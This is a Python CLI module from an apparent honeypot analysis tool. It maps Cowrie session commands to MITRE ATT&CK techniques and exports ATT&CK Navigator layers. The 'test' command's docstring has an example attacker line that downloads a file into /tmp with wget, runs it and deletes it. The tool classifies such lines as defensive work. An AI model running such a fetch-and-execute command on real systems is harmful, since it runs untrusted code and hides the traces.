"""`cowrie-assets techniques`: the rules that map what sessions did to techniques of ATT&CK, and what they showed."""

from pathlib import Path
from typing import TYPE_CHECKING

import click

from cowrie_assets.cli.parameters import configured, open_warehouse
from cowrie_assets.cli.printing import counted
from cowrie_assets.printable import printable, shown
from cowrie_assets.reports.periods import REPORT_TYPES, Period, PeriodError, parse_period

if TYPE_CHECKING:
    from cowrie_assets.cowrie.rule_set import RuleSet
    from cowrie_assets.cowrie.technique_rules import TechniqueRule

_FILE = click.Path(path_type=Path, dir_okay=False)


@click.group()
def techniques() -> None:
    """The rules that map what sessions did to techniques of MITRE ATT&CK: those of the project, and your own in the
    file that COWRIE_TECHNIQUES_FILE names (docs/TECHNIQUES.md). What sessions showed is in the reports, in the table
    session_techniques and in layers for the ATT&CK Navigator.

    \b
    Examples:
      cowrie-assets techniques test "uname -a"
      cowrie-assets techniques navigator 2026-08 --output august.json
    """


@techniques.command("list")
@click.option("--format", "output_format", type=click.Choice(["text", "json"]), default="text", show_default=True)
def list_rules(output_format: str) -> None:
    """List the rules in force, by technique.

    \b
    Example:
      cowrie-assets techniques list
    """
    from cowrie_assets.operations.technique_rules import rules_of

    rules = rules_of(configured().settings)
    listed = sorted(rules.rules, key=lambda rule: (rule.technique, rule.name))
    if output_format == "json":
        import json

        click.echo(json.dumps([_told(rule, rules) for rule in listed], ensure_ascii=True, indent=2))
        return
    for rule in listed:
        own = " (your own)" if rule.name in rules.own else ""
        click.echo(printable(f"{rule.technique:<10} {rule.name:<26} {rule.description}{own}"))


def _told(rule: "TechniqueRule", rules: "RuleSet") -> dict[str, object]:
    technique = rules.attack.techniques[rule.technique]
    return {
        "rule": rule.name,
        "technique": rule.technique,
        "name": technique.now.name,
        "tactics": technique.now.tactics,
        "former_id": technique.before.id,
        "attack_version": rules.attack.version,
        "description": rule.description,
        "own": rule.name in rules.own,
    }


@techniques.command("test")
@click.argument("command")
def test_command(command: str) -> None:
    """Tell which rules COMMAND matches; exit code 1 where none does.

    \b
    Example:
      cowrie-assets techniques test "cd /tmp; wget http://192.0.2.1/x; sh x; rm x"
    """
    from cowrie_assets.operations.technique_rules import rules_of

    rules = rules_of(configured().settings)
    found = rules.matcher.shown_by(command)
    if not found:
        raise click.ClickException("no rule matches it")
    for rule, needs_other in found:
        after = f"; counts behind a command that shows {' or '.join(sorted(rule.after))}" if needs_other else ""
        name = rules.attack.techniques[rule.technique].now.name
        click.echo(printable(f"{rule.technique:<10} {rule.name:<26} {name}{after}"))


@techniques.command()
@click.argument("file", type=_FILE)
def check(file: Path) -> None:
    """Tell whether FILE can be used as rules of your own: each is understood, and does what its examples say.

    \b
    Example:
      cowrie-assets techniques check rules.toml
    """
    from cowrie_assets.operations.technique_rules import own_rules

    _, rules = own_rules(file)
    click.echo(f"{counted(len(rules.own), 'rule')}, each does what its examples say")


@techniques.command()
@click.argument("period")
@click.option("--sensor", metavar="NAME", help="Of this sensor; of all together without it.")
@click.option("--attack-version", metavar="VERSION", help="The current version without it, or the one before.")
@click.option("--output", metavar="FILE", type=_FILE, help="Write FILE in place of standard output.")
def navigator(period: str, sensor: str | None, attack_version: str | None, output: Path | None) -> None:
    """Make a layer for the ATT&CK Navigator of what the sessions of a day, week or month showed.

    \b
    Examples:
      cowrie-assets techniques navigator 2026-08 --output august.json
      cowrie-assets techniques navigator 2026-W36 --sensor hp-fra-01 --attack-version 18
    """
    import json

    from cowrie_assets.reports.figures import Scope
    from cowrie_assets.reports.navigator import navigator_layer
    from cowrie_assets.reports.sections.techniques import attack_in_force, techniques_section
    from cowrie_assets.reports.sensors import sensor_id

    chosen = _period(period)
    with open_warehouse() as (_, warehouse), warehouse.read() as connection:
        attack = attack_in_force(connection)
        version = attack_version or attack.version
        if version not in (attack.version, attack.version_before):
            known = f"{attack.version} and {attack.version_before}"
            raise click.UsageError(f"--attack-version: of ATT&CK {known} are known, not {shown(version)}")
        section = techniques_section(Scope(connection, chosen, sensor_id(connection, sensor), 1))
        name = f"Cowrie {chosen.label}, {'all sensors' if sensor is None else sensor}"
        layer = json.dumps(navigator_layer(section, attack, version=version, name=name), ensure_ascii=True, indent=2)
    if output is None:
        click.echo(layer)
        return
    try:
        output.write_text(f"{layer}\n", encoding="utf-8")
    except OSError as error:
        raise click.ClickException(f"{output} cannot be written: {error.strerror or type(error).__name__}") from error
    click.echo(f"{counted(section['unique'], 'technique')} of {counted(section['sessions'], 'session')}: {output}")


def _period(label: str) -> Period:
    for report_type in REPORT_TYPES:
        try:
            return parse_period(report_type, label)
        except PeriodError:
            continue
    raise click.UsageError(f"{shown(label)} is no day (2026-08-31), ISO week (2026-W36) or month (2026-08)")
